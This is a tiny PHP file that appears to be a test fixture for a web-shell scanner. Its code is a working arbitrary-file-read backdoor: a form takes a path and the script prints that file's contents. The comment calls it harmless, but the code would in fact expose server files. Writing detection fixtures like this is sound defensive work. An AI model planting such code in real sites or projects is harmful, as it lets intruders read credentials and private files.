<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
if (isset($_POST['path'])) {
    echo '<pre>' . htmlspecialchars(file_get_contents($_POST['path'])) . '</pre>';
}
?>
<form method="post"><input type="text" name="path"><input type="submit" value="read"></form>
